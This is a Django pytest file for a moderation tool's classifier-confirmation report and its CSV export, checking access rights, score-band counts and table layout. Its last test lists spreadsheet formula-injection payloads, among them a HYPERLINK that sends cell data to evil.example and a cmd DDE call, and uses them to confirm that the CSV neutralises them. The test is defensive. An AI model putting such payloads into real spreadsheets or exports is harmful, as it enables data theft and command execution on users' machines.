"""/reports/classifiers/ and its CSV: seniors and admins read how well each classifier is
confirmed, score band by score band."""

from __future__ import annotations

import csv
import io
import re

import pytest

from moderation.services.ingest import batch_process
from tests.factories import (
    FlaggedItemFactory,
    SignalFactory,
    SubjectFactory,
    category,
    decide,
    page_of,
    signed_in,
)

pytestmark = pytest.mark.django_db


# --- /reports/classifiers/ -------------------------------------------------------------------


@pytest.fixture
def scored(acme, reviewer):
    """A small known data set: two classifiers, their flags by score, and reviewers' decisions.

    tox-a · violence: 0.95 confirmed, 1.0 confirmed, 0.92 rejected (no violation),
    0.91 undecided, 0.35 decided a violation but of hate (not confirmed for violence).
    tox-b · fraud: 0.55 confirmed.
    """
    subject = SubjectFactory(organization=acme)

    def flag(classifier: str, slug: str, score: float, verdict: str | None, *decided: str):
        item = FlaggedItemFactory(subject=subject)
        SignalFactory(item=item, classifier=classifier, category=category(slug), score=score)
        if verdict:
            decide(item, verdict, *decided, reviewer=reviewer)

    flag("tox-a", "violence", 0.95, "violation", "violence")
    flag("tox-a", "violence", 1.0, "violation", "violence", "hate")
    flag("tox-a", "violence", 0.92, "no_violation")
    flag("tox-a", "violence", 0.91, None)
    flag("tox-a", "violence", 0.35, "violation", "hate")
    flag("tox-b", "fraud", 0.55, "violation", "fraud")


@pytest.mark.parametrize("url", ["/reports/classifiers/", "/reports/classifiers.csv"])
def test_the_classifier_report_is_for_seniors_and_admins(client, reviewer, senior, url):
    assert signed_in(client, reviewer).get(url).status_code == 403
    assert signed_in(client, senior).get(url).status_code == 200


def test_the_classifier_report_shows_counts_per_classifier_category_and_band(
    client, senior, scored
):
    page = page_of(signed_in(client, senior).get("/reports/classifiers/"))
    assert "tox-a · violence" in page and "tox-b · fraud" in page
    assert "5 flags, 4 decided, 2 confirmed" in page
    assert "1 flag, 1 decided, 1 confirmed" in page
    assert '<td data-band="9">2/3</td>' in page and '<td data-band="3">0/1</td>' in page
    assert '<td data-band="5">1/1</td>' in page
    assert "from 0.9: 2 of 3 confirmed (4 flags)" in page
    assert 'href="/reports/classifiers.csv"' in page


def test_the_classifier_report_without_flags_says_so(client, senior):
    assert "No flags yet." in page_of(signed_in(client, senior).get("/reports/classifiers/"))


def test_the_classifier_csv_has_its_header_and_the_right_numbers(admin_client, scored):
    response = admin_client.get("/reports/classifiers.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    assert 'filename="modqueue-classifiers.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [
        [
            "classifier",
            "category",
            "score_from",
            "score_to",
            "flags",
            "decided",
            "confirmed",
            "rejected",
            "confirmation_rate",
        ],
        ["tox-a", "violence", "0.3", "0.4", "1", "1", "0", "1", "0.0000"],
        ["tox-a", "violence", "0.9", "1.0", "4", "3", "2", "1", "0.6667"],
        ["tox-b", "fraud", "0.5", "0.6", "1", "1", "1", "0", "1.0000"],
    ]


def test_the_classifier_csv_leaves_the_rate_empty_where_nothing_is_decided(admin_client, acme):
    SignalFactory(
        item=FlaggedItemFactory(subject=SubjectFactory(organization=acme)),
        classifier="tox-c",
        score=0.1,
    )
    rows = list(
        csv.reader(io.StringIO(admin_client.get("/reports/classifiers.csv").content.decode()))
    )
    assert rows[1] == ["tox-c", "violence", "0.1", "0.2", "1", "0", "0", "0", ""]


BAND_CELL = re.compile(r'<t[hd][^>]*data-band="(\d+)"')


def test_the_bars_stand_over_their_own_bands_figures(client, senior, scored):
    """Bars and figures are columns of one table: in every row of a report, the n-th band
    cell is band n (the bars once sat one band off the table under them)."""
    page = page_of(signed_in(client, senior).get("/reports/classifiers/"))
    tables = re.findall(r'<table class="mini bands">(.*?)</table>', page, re.S)
    assert len(tables) == 2
    for table in tables:
        rows = re.findall(r"<tr[^>]*>(.*?)</tr>", table, re.S)
        assert len(rows) == 3  # score bands, bars, confirmed counts
        for row in rows:
            assert [int(b) for b in BAND_CELL.findall(row)] == list(range(10))
        header, bars, counts = rows
        assert re.findall(r'data-band="\d+">([\d.]+)</th>', header) == [
            f"{b / 10:.1f}" for b in range(10)
        ]
    violence = tables[0]
    bars = re.findall(r"<tr[^>]*>(.*?)</tr>", violence, re.S)[1]
    cells = re.findall(r'<td data-band="(\d+)">(.*?)</td>', bars, re.S)
    drawn = {int(band) for band, cell in cells if 'class="bar"' in cell}
    assert drawn == {3, 9}  # the decided bands: 0.35 (0 of 1) and 0.9-1.0 (2 of 3)
    assert "from 0.9: 2 of 3 confirmed (4 flags)" in dict(cells)["9"]
    assert "67%" in dict(cells)["9"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tleading tab",
    "\rleading return",
]


def test_a_classifier_name_that_is_a_formula_stays_text_in_the_csv(admin_client, signed_key, item):
    response = signed_key.post(
        {
            "items": [
                item(n, signals=[{"classifier": name, "category": "fraud", "score": 0.5}])
                for n, name in enumerate(FORMULAS)
            ]
        }
    )
    assert response.status_code == 202
    batch_process(batch_id=response.json()["batch_id"])
    rows = list(
        csv.reader(io.StringIO(admin_client.get("/reports/classifiers.csv").content.decode()))
    )
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted(f"'{name}" for name in FORMULAS)
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))
    # The page shows the names as sent, escaped.
    page = page_of(admin_client.get("/reports/classifiers/"))
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in page
